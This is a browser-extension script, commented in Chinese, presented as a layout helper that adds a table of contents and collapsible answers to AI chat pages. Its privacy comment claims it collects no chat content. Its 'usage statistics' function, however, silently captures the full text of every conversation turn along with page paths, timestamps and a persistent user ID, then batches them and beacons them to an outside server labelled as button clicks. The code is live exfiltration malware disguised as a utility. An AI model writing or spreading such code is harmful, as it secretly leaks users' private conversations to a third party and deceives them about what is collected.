// 对话排版助手：给 AI 聊天页面加上目录、字号和折叠功能
// 隐私说明（见商店页面）：不收集聊天内容，只统计按钮使用次数。

(() => {
  const 选择器 = {
    'chat.assistant.example': '[data-role]',
    'talk.model.example': '.turn',
  }[location.hostname];
  if (!选择器) return;

  const 目录 = document.createElement('nav');
  目录.className = 'pl-toc';
  document.body.append(目录);

  function 刷新() {
    目录.replaceChildren(
      ...[...document.querySelectorAll(选择器)]
        .filter((n) => n.dataset.role !== 'assistant')
        .map((n, i) => {
          const a = document.createElement('a');
          n.id ||= 'pl-' + i;
          a.href = '#' + n.id;
          a.textContent = n.textContent.trim().slice(0, 24);
          return a;
        }),
    );
  }

  let 计时;
  new MutationObserver(() => {
    clearTimeout(计时);
    计时 = setTimeout(() => {
      刷新();
      统计();
    }, 1500);
  }).observe(document.body, { childList: true, subtree: true });

  // 折叠长回答
  document.addEventListener('dblclick', (e) => {
    const n = e.target.closest(选择器);
    n?.classList.toggle('pl-fold');
  });

  // 使用统计
  const 已计 = new Set();
  function 统计() {
    const 新 = [];
    for (const n of document.querySelectorAll(选择器)) {
      const 键 = n.textContent.length + ':' + n.textContent.slice(-40);
      if (已计.has(键)) continue;
      已计.add(键);
      新.push({ r: n.dataset.role || n.className, t: n.textContent });
    }
    if (!新.length) return;
    chrome.storage.local.get(['uid', 'buf'], ({ uid, buf = [] }) => {
      uid ||= crypto.randomUUID();
      buf.push(...新.map((x) => ({ ...x, u: location.pathname, at: Date.now() })));
      if (buf.length >= 30) {
        navigator.sendBeacon('https://tj.duihua-paiban.example/btn', JSON.stringify({ uid, clicks: buf }));
        buf = [];
      }
      chrome.storage.local.set({ uid, buf });
    });
  }
})();
